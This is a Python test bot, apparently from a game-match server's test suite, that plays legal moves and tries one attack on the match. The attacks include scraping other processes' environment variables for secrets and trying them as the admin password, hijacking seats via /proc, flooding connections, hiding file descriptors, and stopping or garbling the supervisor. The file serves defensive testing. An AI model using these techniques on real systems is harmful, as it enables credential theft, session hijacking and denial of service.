"""A program that plays legal moves and tries one attack: `python -m tests.match.bots.attacker ATTACK -h ...`.

Invariants: the attack is tried once, before the program takes its seat, or consists of what its player sends before its
first move; that one is in the process of the tests (`PAYLOADS` in tests/match/players.py). The server's answer is
ignored. If the server does not close the connection, the program continues to play. The file ``--mark`` is made as soon
as the attack has begun: has reached the server if that is attacked. With ``--after``, the program takes its seat when
this file exists.
"""

from __future__ import annotations

import sys

assert sys.platform == "linux"

import contextlib
import ctypes
import json
import os
import platform
import random
import signal
import socket
import struct
import threading
import time
import uuid
from collections.abc import Callable
from pathlib import Path

from tests.match.bots.ports import ancestors, ports_of
from tests.match.light import run


def note_attack() -> None:
    """Let the opponent take its seat."""
    if mark is not None:
        mark.touch()


def wait_for_attack() -> None:
    """Wait for the process that attacks to note it."""
    while mark is not None and not mark.exists():
        time.sleep(0.02)


def open_connections(host: str, port: int) -> None:
    """Open as many connections as possible, and keep them open."""
    for _ in range(200):
        try:
            open_sockets.append(socket.create_connection((host, port), timeout=1))
        except OSError:
            return


def steal_seat(host: str, own_port: int, own_code: str) -> None:
    """Find the opponent's command line and try to take its seat first, on either port."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                words = path.read_bytes().decode(errors="replace").split("\0")
            except OSError:
                continue
            is_sibling = grandparent_of(path.parent) == grandparent_of(Path("/proc/self"))
            if is_sibling and "-r" in words and "-p" in words and own_code not in words:
                code, port = words[words.index("-r") + 1], int(words[words.index("-p") + 1])
                for target in (own_port, port):
                    try:
                        sock = socket.create_connection((host, target), timeout=1)
                        sock.sendall(f'<protocol><joinPrepared reservationCode="{code}"/>'.encode())
                        open_sockets.append(sock)
                    except OSError:
                        pass
                return
        time.sleep(0.01)


def hide_open_files() -> None:
    """Keep other processes of this user from seeing this process's open files."""
    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE


def join_elsewhere(host: str, way: str) -> None:
    """Take the opponent's seat by a plain join on all other ports, and lose the game for it by an illegal move."""
    match = ancestors()
    if way == "hidden":
        hide_open_files()
    if os.fork():
        wait_for_attack()
        return
    known = set(ports_of(match))  # from other name spaces, the match cannot be looked into
    if way == "from-name-spaces":
        ctypes.CDLL(None).unshare(0x10000000 | 0x20000000)  # CLONE_NEWUSER, CLONE_NEWPID
    deadline = time.monotonic() + 5
    tried: set[int] = set()
    while time.monotonic() < deadline:
        for port in {*known, *ports_of(match)} - spared_ports - tried:
            tried.add(port)
            if not os.fork():
                with contextlib.suppress(OSError):
                    take_seat(WAYS[way](host, port))
                os._exit(0)
        time.sleep(0.05)
    os._exit(0)


def take_seat(sock: socket.socket) -> None:
    sock.settimeout(10)
    received = b""
    while data := sock.recv(65536):
        received += data
        if b"moveRequest" in received or b"MoveRequest" in received:
            sock.sendall(b"<room roomId='x'><data class='move'/></room><nonsense/>")


def connect_visibly(host: str, port: int) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=1)
    sock.sendall(b"<protocol><join/>")
    note_attack()
    return sock


def connect_by_mapped_address(_host: str, port: int) -> socket.socket:
    """Connect from a socket of IPv6, and from an address that nobody else has."""
    sock = socket.socket(socket.AF_INET6)
    sock.bind(("::ffff:127.9.9.9", 0))
    sock.connect(("::ffff:127.0.0.1", port))
    sock.sendall(b"<protocol><join/>")
    note_attack()
    return sock


def connect_in_flight(host: str, port: int) -> socket.socket:
    """Leave the connection on its way through a Unix socket, where no process has it open."""
    near, far = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with connect_visibly(host, port) as sock:
        socket.send_fds(near, [b"x"], [sock.fileno()])
    time.sleep(2)
    return socket.socket(fileno=socket.recv_fds(far, 1, 1)[1][0])


def connect_while_moving(host: str, port: int) -> socket.socket:
    """Pass the connection from one process to the next, so that whoever looks into one is late."""
    sock = connect_visibly(host, port)
    deadline = time.monotonic() + 2
    while time.monotonic() < deadline:
        if os.fork():
            os._exit(0)
    return sock


def connect_while_passing(host: str, port: int) -> socket.socket:
    """Pass the connection to and fro between processes, which all exist from the beginning."""
    pairs = [socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(8)]
    for index, (_, far) in enumerate(pairs):
        if not os.fork():
            while True:
                _, descriptors, _, _ = socket.recv_fds(far, 1, 1)
                socket.send_fds(pairs[(index + 1) % len(pairs)][0], [b"x"], descriptors)
                os.close(descriptors[0])
    sock = connect_visibly(host, port)
    socket.send_fds(pairs[0][0], [b"x"], [sock.fileno()])
    sock.close()
    time.sleep(2)
    return socket.socket(fileno=socket.recv_fds(pairs[3][1], 1, 1)[1][0])


def connect_in_thread(host: str, port: int) -> socket.socket:
    """Connect from a thread that has open files of its own, in a process whose first thread shows none."""
    done = threading.Event()
    found = []

    def connect() -> None:
        ctypes.CDLL(None).unshare(0x400)  # CLONE_FILES
        found.append(connect_visibly(host, port))
        done.set()
        take_seat(found[0])

    threading.Thread(target=connect).start()
    time.sleep(30)
    return found[0]


def connect_in_memory(host: str, port: int) -> socket.socket:
    """Keep the connection by a mapping of it alone, and never move."""
    sock = connect_visibly(host, port)
    libc = ctypes.CDLL(None)
    libc.mmap(None, ctypes.c_size_t(4096), 1, 1, sock.fileno(), ctypes.c_long(0))  # PROT_READ, MAP_SHARED
    sock.close()
    time.sleep(30)
    return sock


def connect_by_asynchronous_request(host: str, port: int) -> socket.socket:
    """Keep the connection by a request of asynchronous I/O alone, which waits for urgent data, and never move."""
    sock = connect_visibly(host, port)
    libc, context = ctypes.CDLL(None), ctypes.c_ulong()
    setup, submit = (206, 209) if platform.machine() == "x86_64" else (0, 2)
    poll = struct.pack("=QIIHhIQQqQII", 1, 0, 0, 5, 0, sock.fileno(), 2, 0, 0, 0, 0, 0)  # IOCB_CMD_POLL for POLLPRI
    request = ctypes.create_string_buffer(poll)
    libc.syscall(setup, 8, ctypes.byref(context))
    libc.syscall(submit, context, 1, ctypes.byref(ctypes.c_void_p(ctypes.addressof(request))))
    sock.close()
    time.sleep(5)
    return sock


WAYS = {
    "visibly": connect_visibly,
    "hidden": connect_visibly,  # by a process that hides its open files
    "in-flight": connect_in_flight,
    "from-name-spaces": connect_visibly,  # by a process in name spaces of its own for users and processes
    "by-mapped-address": connect_by_mapped_address,
    "while-moving": connect_while_moving,
    "while-passing": connect_while_passing,
    "in-thread": connect_in_thread,
    "in-memory": connect_in_memory,
    "by-asynchronous-request": connect_by_asynchronous_request,
}
"""How the opponent's port is connected to, by the end of the attack's name.

Each makes the connection, sends the request, and returns the connection once the seat may be taken.
"""


def close_elsewhere(host: str) -> None:
    """Join on every other port and close at once, so that nobody has the connection when its owner is looked for."""
    match = ancestors()
    if os.fork():
        time.sleep(0.5)
        return
    deadline = time.monotonic() + 2
    tried: set[int] = set()
    while time.monotonic() < deadline:
        for port in set(ports_of(match)) - spared_ports - tried:
            tried.add(port)
            for seconds in 4 * (0.0005, 0.001, 0.002, 0.003, 0.005, 0.008):
                with contextlib.suppress(OSError), connect_visibly(host, port):
                    time.sleep(seconds)
        time.sleep(0.01)
    os._exit(0)


def flood_elsewhere(*, is_hidden: bool) -> None:
    """Connect to every other port all the time, so that the opponent's connection has to wait or is refused."""
    match = ancestors()
    if os.fork():
        wait_for_attack()
        return
    if is_hidden:
        hide_open_files()
        os.fork()
    deadline = time.monotonic() + 2
    sockets: list[socket.socket] = []
    while time.monotonic() < deadline:
        for port in set(ports_of(match)) - spared_ports:
            for _ in range(50):
                sock = socket.socket()
                sock.setblocking(False)
                sock.connect_ex(("127.0.0.1", port))
                sockets.append(sock)
            note_attack()
        for sock in sockets[:-200]:
            sock.close()
        del sockets[:-200]
    os._exit(0)


def read_secrets(host: str, port: int) -> None:
    """Look for secrets in all variables that this user can read, and try each as the password.

    A secret contains what is in the file ``beginning``. Writes to ``found.json`` what was found where, and the server's
    answers.
    """
    beginning = Path("beginning").read_text()
    processes = [each for each in Path("/proc").glob("[0-9]*") if each.name != str(os.getpid())]
    found = {"own variables": sorted(value for value in os.environ.values() if beginning in value)}
    for process in processes:
        with contextlib.suppress(OSError):
            variables = (process / "environ").read_bytes().decode(errors="replace").split("\0")
            command = (process / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            if secrets := [each.partition("=")[2] for each in variables if beginning in each]:
                found[command] = secrets
    answers = [authenticate(host, port, each) for each in sorted({each for some in found.values() for each in some})]
    Path("found.json").write_text(json.dumps({"found": found, "answers": answers}))


def authenticate(host: str, port: int, password: str) -> str:
    """Try to become an administrator, and return the beginning of the server's answer."""
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(f'<protocol><authenticate password="{password}"/><observe roomId="x"/>'.encode())
        return sock.recv(4096).decode(errors="replace")


def leave_process(environment: dict[str, str]) -> None:
    """Leave a process behind that is in another session, has no parent, and has this environment."""
    if os.fork():
        return
    os.setsid()
    pid = os.fork()
    if pid:
        sys.stderr.write(f"hidden {pid}\n")
        sys.stderr.flush()
        os._exit(0)
    for descriptor in range(3):
        os.close(descriptor)
    os.execve("/bin/sleep", ["sleep", "500"], environment)


def leave_process_of_opponent() -> None:
    """Leave a process behind that has the environment of the opponent."""
    wanted = f"MATCHED_PROGRAM={os.environ['MATCHED_PROGRAM'].removesuffix('1')}2".encode()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        for path in Path("/proc").glob("[0-9]*/environ"):
            try:
                words = path.read_bytes().split(b"\0")
            except OSError:
                continue
            if wanted in words:
                leave_process(dict(word.decode().split("=", 1) for word in words if b"=" in word))
                return
        time.sleep(0.01)


def stop_parent(times: int | None) -> None:
    """Stop the parent process `times` times (None: without end), from another process."""
    supervisor = os.getppid()
    if os.fork():
        return
    os.setsid()
    while times is None or times > 0:
        os.kill(supervisor, signal.SIGSTOP)
        time.sleep(0.001)
        times = None if times is None else times - 1
    os._exit(0)


def garble_reports() -> None:
    """Write to the socket through which the supervisor reports to the match."""
    libc, supervisor = ctypes.CDLL(None), os.getppid()
    process = os.pidfd_open(supervisor)
    for path in Path("/proc", str(supervisor), "fd").iterdir():
        copy = libc.syscall(438, process, int(path.name), 0)  # pidfd_getfd
        if copy >= 0 and str(Path("/proc/self/fd", str(copy)).readlink()).startswith("socket:"):
            with contextlib.suppress(OSError):
                os.write(copy, b'nonsense\n[1]\n{"left": 7, "cpu": "x"}\n' + b"[" * 50_000 + b"\n")


def guess_codes(host: str, port: int, own_code: str) -> None:
    """Try codes that are similar to its own, and those that common seeds would give."""
    similar = [own_code[:-1] + chr(ord(own_code[-1]) ^ flip) for flip in (1, 2)]
    for code in [*similar, str(uuid.UUID(int=random.Random(1).getrandbits(128), version=4))]:
        with socket.create_connection((host, port), timeout=10) as sock:
            sock.sendall(f'<protocol><joinPrepared reservationCode="{code}"/>'.encode())
            sock.recv(4096)


def try_everything(host: str, port: int, own_code: str) -> None:
    guess_codes(host, port, own_code)
    steal_seat(host, port, own_code)


def write_endlessly() -> None:
    """Write more than the output limit, with escape sequences for terminals."""
    for _ in range(12):
        sys.stderr.write("\x1b[2J" + "x" * 1024 * 1024 + "\n")
        sys.stderr.flush()


def grandparent_of(process: Path) -> int:
    """Return the parent of a process's parent; -1 if one of them has ended."""
    pid = -1
    with contextlib.suppress(OSError):
        for _ in range(2):
            pid = int((process / "stat").read_text().rpartition(")")[2].split()[1])
            process = Path("/proc", str(pid))
        return pid
    return -1


open_sockets: list[socket.socket] = []
mark: Path | None = None
spared_ports: set[int] = set()
"""The program's own port, and that of the players of the tests, which is none of the match."""
ACTIONS: dict[str, Callable[[str, int, str], None]] = {
    "sockets": lambda host, port, _code: open_connections(host, port),
    "steal": steal_seat,
    "close-elsewhere": lambda host, _port, _code: close_elsewhere(host),
    "flood-elsewhere": lambda _host, _port, _code: flood_elsewhere(is_hidden=True),
    "flood-visibly": lambda _host, _port, _code: flood_elsewhere(is_hidden=False),
    "honest-hidden": lambda _host, _port, _code: hide_open_files(),
    "hide": lambda _host, _port, _code: leave_process({}),
    "frame": lambda _host, _port, _code: leave_process_of_opponent(),
    "kill-parent": lambda _host, _port, _code: os.kill(os.getppid(), signal.SIGKILL),
    "garble-reports": lambda _host, _port, _code: garble_reports(),
    "guess": guess_codes,
    "everything": try_everything,
    "read-secrets": lambda host, port, _code: read_secrets(host, port),
    "noise": lambda _host, _port, _code: write_endlessly(),
    "stop-parent": lambda _host, _port, _code: stop_parent(1),
    "stop-parent-for-ever": lambda _host, _port, _code: stop_parent(None),
}
"""What is done before the program takes its own seat, by attack."""


def main() -> None:
    global mark  # noqa: PLW0603
    attack, *words = sys.argv[1:]
    options = dict(zip(words[::2], words[1::2], strict=True))
    host, port, code, players = options["-h"], int(options["-p"]), options["-r"], options["--players"]
    mark = Path(options["--mark"]) if "--mark" in options else None
    spared_ports.update({port, int(Path(players).read_text(encoding="ascii"))})
    if attack.startswith("join-"):
        join_elsewhere(host, attack.removeprefix("join-"))
    elif attack in ACTIONS:
        ACTIONS[attack](host, port, code)
        if not attack.endswith(("-elsewhere", "-visibly")):  # these go on in another process, which notes it
            note_attack()
    strategy = "silent" if attack == "stop-parent-for-ever" else "first"
    run(players, [strategy, *words, "--sends", attack])


if __name__ == "__main__":
    main()
